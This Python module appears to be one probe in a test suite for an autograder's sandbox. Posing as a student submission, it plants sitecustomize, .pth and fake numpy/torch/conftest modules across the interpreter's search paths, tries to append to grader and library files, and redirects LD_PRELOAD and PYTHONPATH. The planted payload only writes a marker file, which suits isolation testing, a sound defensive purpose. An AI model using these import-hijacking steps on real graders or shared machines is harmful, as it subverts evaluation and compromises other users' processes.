"""Hope: code written beside the interpreter, or on its path, runs in the grader or in the next student's process."""

import os
import site
import sys
import sysconfig

from a3 import kit

GOAL = "neighbours"
ROUTE = "imports"
SCORE = 25
CODE = f"open({kit.RESULTS + '/hostile'!r}, 'w')\n"


def attack():
    """Write start-up files and modules wherever Python would find them."""
    folders = {*sys.path, site.getusersitepackages(), *site.getsitepackages(), sysconfig.get_path("stdlib"), os.getcwd(),
               os.path.dirname(sys.modules["autograder"].__file__), os.path.dirname(os.__file__), os.environ["HOME"]}
    for folder in filter(None, folders):
        for name in ("sitecustomize.py", "usercustomize.py", "hostile.pth", "numpy.py", "torch.py", "conftest.py"):
            kit.attempt(lambda path=f"{folder}/{name}": open(path, "w").write(CODE))
    for module in ("autograder", "numpy", "torch", "json"):
        kit.attempt(lambda path=sys.modules[module].__file__: open(path, "a"))
    for name in ("LD_PRELOAD", "PYTHONPATH", "PYTHONSTARTUP", "TMPDIR"):
        os.environ[name] = os.getcwd()
    sys.path[:0] = [os.getcwd(), "/dev/shm"]


word_embedding_backward = kit.mount(attack)
